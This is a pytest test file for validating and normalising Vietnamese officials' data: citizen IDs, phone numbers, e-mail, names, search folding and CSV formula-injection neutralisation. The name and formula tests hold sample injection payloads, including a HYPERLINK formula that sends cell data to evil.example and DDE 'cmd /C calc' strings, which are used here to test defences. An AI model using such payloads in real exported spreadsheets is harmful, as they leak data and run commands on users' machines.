"""Validation and normalisation of officials' data (idp.official_data).

All citizen IDs, phone numbers and addresses below are synthetic.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Callable
from datetime import date

import pytest

from core.errors import DomainError
from idp.official_data import (
    CCCD_PROVINCES,
    CitizenIdFacts,
    Gender,
    citizen_id_facts,
    error_text,
    fold_for_search,
    is_formula_like,
    neutralise_formula,
    normalise_citizen_id,
    normalise_email,
    normalise_full_name,
    normalise_phone,
)

TODAY = date(2025, 7, 1)


def assert_refused(
    function: Callable[[str], str], raw: str, *, field: str, fragment: str
) -> DomainError:
    with pytest.raises(DomainError) as caught:
        function(raw)
    error = caught.value
    assert error.field == field
    assert fragment in error_text(error)
    assert "%(" not in error_text(error)  # every placeholder has its parameter
    return error


def citizen_id(raw: str) -> str:
    return normalise_citizen_id(raw, today=TODAY)


# --- Citizen ID -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("001085012345", "001085012345"),
        ("001 085 012 345", "001085012345"),
        (" 079196001234\t", "079196001234"),
        ("0383 0201 2345", "038302012345"),
        ("096305000123", "096305000123"),  # a girl born in 2005, Cà Mau
        ("048225012345", "048225012345"),  # born this year: age 0 is allowed
        ("001005012345", "001005012345"),  # 1905: exactly 120 years old
    ],
)
def test_citizen_id_accepted(raw: str, expected: str) -> None:
    assert citizen_id(raw) == expected


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "required"),
        ("   ", "required"),
        ("00108501234", "11 digits instead of 12"),
        ("0010850123", "has 10 digits"),
        ("0010850123456", "has 13 digits"),
        ("001-085-012-345", "digits only"),
        ("００1085012345", "digits only"),  # full-width digits
        ("٠٠١٠٨٥٠١٢٣٤٥", "digits only"),  # Arabic-Indic digits
        ("001O85012345", "digits only"),  # letter O for zero
        ("099085012345", "Unknown province code 099 in the citizen ID"),
        ("000085012345", "Unknown province code 000"),
        ("003085012345", "Unknown province code 003"),
        ("097085012345", "Unknown province code 097"),
        ("100085012345", "Unknown province code 100"),
        ("001230012345", "birth year of 2030, which is in the future"),
        ("001226012345", "birth year of 2026, which is in the future"),
        ("001430012345", "birth year of 2130"),
        ("001004012345", "birth year of 1904, more than 120 years ago"),
        ("001000012345", "birth year of 1900"),
    ],
)
def test_citizen_id_refused(raw: str, fragment: str) -> None:
    error = assert_refused(citizen_id, raw, field="citizen_id", fragment=fragment)
    assert error.message[:1].isupper()


def test_citizen_id_message_names_the_province_code() -> None:
    error = assert_refused(
        citizen_id,
        "099085012345",
        field="citizen_id",
        fragment="Unknown province code 099 in the citizen ID.",
    )
    assert error.params == {"code": "099"}
    assert error.message == "Unknown province code %(code)s in the citizen ID."  # the msgid


@pytest.mark.parametrize(
    ("cccd", "facts"),
    [
        ("001085012345", CitizenIdFacts("001", "male", 1985)),
        ("079196001234", CitizenIdFacts("079", "female", 1996)),
        ("046303001234", CitizenIdFacts("046", "female", 2003)),
        ("031210001234", CitizenIdFacts("031", "male", 2010)),
        ("001400012345", CitizenIdFacts("001", "male", 2100)),
        ("001599012345", CitizenIdFacts("001", "female", 2199)),
        ("001601012345", CitizenIdFacts("001", "male", 2201)),
        ("001799012345", CitizenIdFacts("001", "female", 2299)),
        ("001800012345", CitizenIdFacts("001", "male", 2300)),
        ("001999012345", CitizenIdFacts("001", "female", 2399)),
    ],
)
def test_citizen_id_facts(cccd: str, facts: CitizenIdFacts) -> None:
    assert citizen_id_facts(cccd) == facts


def test_citizen_id_facts_names_the_province() -> None:
    assert citizen_id_facts("046203001234").province_name == "Thừa Thiên Huế"
    assert citizen_id_facts("077090001234").province_name == "Bà Rịa - Vũng Tàu"


@pytest.mark.parametrize("cccd", ["", "00108501234", "001 085 012 345", "099085012345"])
def test_citizen_id_facts_refuses_malformed_numbers(cccd: str) -> None:
    with pytest.raises(DomainError) as caught:
        citizen_id_facts(cccd)
    assert caught.value.field == "citizen_id"


def test_every_province_of_the_63_list_is_accepted() -> None:
    assert len(CCCD_PROVINCES) == 63
    assert all(len(code) == 3 and code.isdigit() for code in CCCD_PROVINCES)
    for code in CCCD_PROVINCES:
        assert citizen_id(f"{code}190001234") == f"{code}190001234"
        assert citizen_id_facts(f"{code}190001234").province_code == code


def test_citizen_id_century_and_gender_property() -> None:
    """Every prefix built from a known province, a gender and a plausible year reads back."""
    rng = random.Random(2016)
    codes = sorted(CCCD_PROVINCES)
    for _ in range(500):
        code = rng.choice(codes)
        year = rng.randint(TODAY.year - 120, TODAY.year)
        gender: Gender = "female" if rng.random() < 0.5 else "male"
        digit = (year // 100 - 19) * 2 + (gender == "female")
        raw = f"{code}{digit}{year % 100:02d}{rng.randint(0, 999_999):06d}"
        assert citizen_id(raw) == raw
        assert citizen_id(citizen_id(raw)) == raw
        assert citizen_id_facts(raw) == CitizenIdFacts(code, gender, year)


# --- Phone --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("0912 345 678", "+84912345678"),
        ("0912.345.678", "+84912345678"),
        ("0912-345-678", "+84912345678"),
        ("+84 912345678", "+84912345678"),
        ("+84912345678", "+84912345678"),
        ("84912345678", "+84912345678"),
        ("(+84) 912-345-678", "+84912345678"),
        ("0084 912 345 678", "+84912345678"),
        ("+84 (0)912 345 678", "+84912345678"),
        (" 0912345678 ", "+84912345678"),
        ("0321 234 567", "+84321234567"),
        ("0562 345 678", "+84562345678"),
        ("0773 456 789", "+84773456789"),
        ("0868 123 456", "+84868123456"),
        ("0987654321", "+84987654321"),
        ("024 3825 1234", "+842438251234"),  # Hà Nội landline
        ("028 3829 5678", "+842838295678"),  # Hồ Chí Minh landline
        ("0236 3821 234", "+842363821234"),  # Đà Nẵng landline
        ("+84 24 3825 1234", "+842438251234"),
    ],
)
def test_phone_accepted(raw: str, expected: str) -> None:
    assert normalise_phone(raw) == expected


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "required"),
        ("   ", "required"),
        ("không có", "digits only"),
        ("0912/345/678", "digits only"),
        ("0912 345 678 ext 12", "digits only"),
        ("０９１２３４５６７８", "digits only"),  # full-width digits
        ("+", "digits only"),
        ("+1 202 555 0123", "Only Vietnamese phone numbers (+84)"),
        ("+856 20 5512 3456", "Only Vietnamese phone numbers (+84)"),
        ("912345678", "starts with 0 or +84"),
        ("0912 345 67", "mobile number has 10 digits with the leading 0; 9 given"),
        ("09123456789", "mobile number has 10 digits with the leading 0; 11 given"),
        ("+84 9123 456 789", "mobile number has 10 digits"),
        ("024 3825 123", "landline number has 11 digits with the leading 0; 10 given"),
        ("024 3825 12345", "landline number has 11 digits with the leading 0; 12 given"),
        ("0412345678", "starts with 03, 05, 07, 08 or 09"),
        ("0612345678", "starts with 03, 05, 07, 08 or 09"),
        ("0112345678", "starts with 03, 05, 07, 08 or 09"),
        ("0012345678", "Only Vietnamese phone numbers"),  # 00 is the international prefix
        ("+84", "starts with 03, 05, 07, 08 or 09"),
        ("0", "starts with 03, 05, 07, 08 or 09"),
    ],
)
def test_phone_refused(raw: str, fragment: str) -> None:
    assert_refused(normalise_phone, raw, field="phone", fragment=fragment)


def test_phone_normalisation_is_idempotent() -> None:
    rng = random.Random(84)
    formats = [
        "0{a}{b} {c} {d}",
        "0{a}{b}.{c}.{d}",
        "+84 {a}{b}{c}{d}",
        "84{a}{b}{c}{d}",
        "(+84) {a}{b}-{c}-{d}",
        "0084 {a}{b} {c} {d}",
    ]
    for _ in range(300):
        a = rng.choice("35789")
        b = f"{rng.randint(0, 99):02d}"
        c = f"{rng.randint(0, 999):03d}"
        d = f"{rng.randint(0, 999):03d}"
        raw = rng.choice(formats).format(a=a, b=b, c=c, d=d)
        once = normalise_phone(raw)
        assert once == f"+84{a}{b}{c}{d}"
        assert normalise_phone(once) == once


# --- E-mail -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("an.nv@hoankiem.hanoi.gov.vn", "an.nv@hoankiem.hanoi.gov.vn"),
        (
            " Nguyen.Van.An@UBND.HoanKiem.Hanoi.GOV.vn ",
            "Nguyen.Van.An@ubnd.hoankiem.hanoi.gov.vn",
        ),  # local part kept as is, domain lowercased
        ("an.nv+import@example.vn", "an.nv+import@example.vn"),
        ("o'neil_t-2@mail.example.com", "o'neil_t-2@mail.example.com"),
        ("an@example.vn.", "an@example.vn"),
        ("an@xãhòa.vn", "an@xn--xha-mla0f.vn"),  # Unicode domain -> A-label
        ("an@UBND.XÃHÒA.vn", "an@ubnd.xn--xha-mla0f.vn"),
        ("an@xn--xha-mla0f.vn", "an@xn--xha-mla0f.vn"),
        ("a@b.co", "a@b.co"),
        ("x" * 64 + "@example.vn", "x" * 64 + "@example.vn"),
    ],
)
def test_email_accepted(raw: str, expected: str) -> None:
    assert normalise_email(raw) == expected


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "required"),
        ("  ", "required"),
        ("an.example.vn", "exactly one @"),
        ("an@@example.vn", "exactly one @"),
        ("an@nv@example.vn", "exactly one @"),
        ("an nv@example.vn", "cannot contain spaces"),
        ("an@example .vn", "cannot contain spaces"),
        ('"an nv"@example.vn', "cannot contain spaces"),
        ("an\u00a0nv@example.vn", "cannot contain spaces"),
        ("@example.vn", "a name before the @"),
        ("an@", "a domain after it"),
        ("an@example", "has a dot"),
        (".an@example.vn", "The part before the @"),
        ("an.@example.vn", "The part before the @"),
        ("an..nv@example.vn", "The part before the @"),
        ("nguyễn@example.vn", "The part before the @"),
        ('"an"@example.vn', "The part before the @"),
        ("an\x00@example.vn", "The part before the @"),
        ("x" * 65 + "@example.vn", "The part before the @ is at most 64"),
        ("an@-example.vn", "The domain -example.vn"),
        ("an@example-.vn", "is not valid"),
        ("an@example..vn", "is not valid"),
        ("an@.example.vn", "is not valid"),
        ("an@exa_mple.vn", "is not valid"),
        ("an@example.123", "is not valid"),
        ("an@" + "a" * 64 + ".vn", "is not valid"),
        ("an@" + "ã" * 64 + ".vn", "is not valid"),  # too long once encoded
        ("an@example.vn<script>", "is not valid"),
        ("an@" + ".".join(["a" * 60] * 5) + ".vn", "at most 254 characters"),
    ],
)
def test_email_refused(raw: str, fragment: str) -> None:
    assert_refused(normalise_email, raw, field="email", fragment=fragment)


def test_email_normalisation_is_idempotent() -> None:
    for raw in [
        " Nguyen.Van.An@UBND.HoanKiem.Hanoi.GOV.vn ",
        "an@UBND.XÃHÒA.vn",
        "an@example.vn.",
        "o'neil_t-2@Mail.Example.com",
    ]:
        once = normalise_email(raw)
        assert normalise_email(once) == once


# --- Full name ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("  Nguyễn   Văn\tAn \n", "Nguyễn Văn An"),
        (unicodedata.normalize("NFD", "Trần Thị Bích Ngọc"), "Trần Thị Bích Ngọc"),
        ("Đặng Thị Hoa", "Đặng Thị Hoa"),
        ("Hoàng-Lê Minh Đức", "Hoàng-Lê Minh Đức"),
        ("H'Hen Niê", "H'Hen Niê"),  # Ê Đê names carry an apostrophe
        ("Y’Moan Êban", "Y’Moan Êban"),
        ("Lò Văn Pá", "Lò Văn Pá"),
        ("An", "An"),
        ("สมชาย ใจดี", "สมชาย ใจดี"),  # Thai keeps combining vowel signs after NFC
        ("Иван Петров", "Иван Петров"),
        ("李小龍", "李小龍"),
        ("A" * 200, "A" * 200),
    ],
)
def test_full_name_accepted(raw: str, expected: str) -> None:
    result = normalise_full_name(raw)
    assert result == expected
    assert unicodedata.is_normalized("NFC", result)


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "required"),
        (" \t ", "required"),
        ("A", "at least 2"),
        ("Ư", "at least 2"),
        ("A" * 201, "at most 200"),
        ("Nguyễn Văn 2", "cannot contain digits"),
        ("Nguyễn Văn An2", "cannot contain digits"),
        ("Nguyễn ²", "cannot contain digits"),
        ("Nguyễn Văn ٣", "cannot contain digits"),
        ('=HYPERLINK("http://evil.example","x")', "cannot start with =, +, - or @"),
        ("+Nguyễn Văn An", "cannot start with"),
        ("-Nguyễn Văn An", "cannot start with"),
        ("@Nguyễn Văn An", "cannot start with"),
        ("\t=1+1", "cannot start with"),
        ("'Nguyễn Văn An", "starts with a letter"),
        ("’An", "starts with a letter"),
        ("Nguyễn_Văn", "“_” (U+005F) is not allowed"),
        ("Nguyễn.Văn", "“.” (U+002E) is not allowed"),
        ("Nguyễn Văn An 😀", "(U+1F600) is not allowed"),
        ("Nguyễn\u200bVăn", "(U+200B) is not allowed"),
        ("Nguyễn <b>An</b>", "is not allowed"),
        ("Nguyễn = An", "is not allowed"),
        ("An \u0301b", "(U+0301) is not allowed"),  # a stray accent on a space
    ],
)
def test_full_name_refused(raw: str, fragment: str) -> None:
    assert_refused(normalise_full_name, raw, field="full_name", fragment=fragment)


# --- Search folding -----------------------------------------------------------------------------

FOLD_EXAMPLES = [
    ("Nguyễn Văn An", "nguyen van an"),
    ("NGUYỄN VĂN AN", "nguyen van an"),
    ("ĐẶNG THỊ Ḥoa", "dang thi hoa"),
    ("  Trần\tThị   Bích\nNgọc  ", "tran thi bich ngoc"),
    (unicodedata.normalize("NFD", "Phường Hoàn Kiếm"), "phuong hoan kiem"),
    ("Phường Hoàn Kiếm", "phuong hoan kiem"),
    ("Ðỗ Thị Ưng", "do thi ung"),  # Icelandic Eth typed for Đ
    ("Huỳnh Ơn Ức Ý", "huynh on uc y"),
    ("Nguy\u00adễn", "nguyen"),  # soft hyphen from a word processor
    ("H'Hen Niê", "h'hen nie"),
    ("İstanbul", "istanbul"),
    ("", ""),
    ("   ", ""),
]


@pytest.mark.parametrize(("text", "expected"), FOLD_EXAMPLES)
def test_fold_for_search(text: str, expected: str) -> None:
    assert fold_for_search(text) == expected


def test_fold_for_search_is_idempotent() -> None:
    rng = random.Random(63)
    alphabet = (
        "aăâbcdđeêghiklmnoôơpqrstuưvxy AĂÂĐÊÔƠƯ"
        "àáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ"
        "ÀÁẢÃẠẰẮẲẴẶẦẤẨẪẬÈÉẺẼẸỀẾỂỄỆÌÍỈĨỊÒÓỎÕỌỒỐỔỖỘỜỚỞỠỢÙÚỦŨỤỪỨỬỮỰỲÝỶỸỴ"
        "\u0300\u0301\u0303\u0309\u0323\t\n\u00a0\u00adİßÐðﬁ"
    )
    samples = [text for text, _ in FOLD_EXAMPLES]
    samples += ["".join(rng.choices(alphabet, k=rng.randint(0, 40))) for _ in range(1000)]
    for text in samples:
        once = fold_for_search(text)
        assert fold_for_search(once) == once, text
        assert fold_for_search(unicodedata.normalize("NFD", text)) == once, text
        assert once == once.strip() and "  " not in once
        assert "đ" not in once and once == once.casefold()


def test_fold_matches_diacritic_free_queries() -> None:
    stored = fold_for_search("Nguyễn Văn An")
    for query in ["nguyen van an", "NGUYEN VAN AN", "Nguyễn văn an", "nguyễn  VĂN an"]:
        assert fold_for_search(query) == stored


# --- Formula injection ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "formula_like", "neutralised"),
    [
        ("=1+1", True, "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?"&A1)',
            True,
            '\'=HYPERLINK("http://evil.example/?"&A1)',
        ),
        ("+84912345678", True, "'+84912345678"),
        ("-2+3+cmd|' /C calc'!A0", True, "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", True, "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", True, "'\t=1+1"),
        ("\r=1+1", True, "'\r=1+1"),
        ("", False, ""),
        ("Nguyễn Văn An", False, "Nguyễn Văn An"),
        ("001085012345", False, "001085012345"),
        ("an.nv@example.vn", False, "an.nv@example.vn"),
        ("'=1+1", False, "'=1+1"),
        (" =1+1", False, " =1+1"),
        ("1=1", False, "1=1"),
        ("Hoàng-Lê", False, "Hoàng-Lê"),
    ],
)
def test_formula_cells(cell: str, formula_like: bool, neutralised: str) -> None:
    assert is_formula_like(cell) is formula_like
    assert neutralise_formula(cell) == neutralised


def test_neutralise_formula_is_idempotent_and_never_leaves_a_formula() -> None:
    rng = random.Random(7)
    alphabet = "=+-@\t\r'aĐ1 ("
    for _ in range(1000):
        cell = "".join(rng.choices(alphabet, k=rng.randint(0, 8)))
        once = neutralise_formula(cell)
        assert not is_formula_like(once)
        assert neutralise_formula(once) == once
        assert once in {cell, "'" + cell}
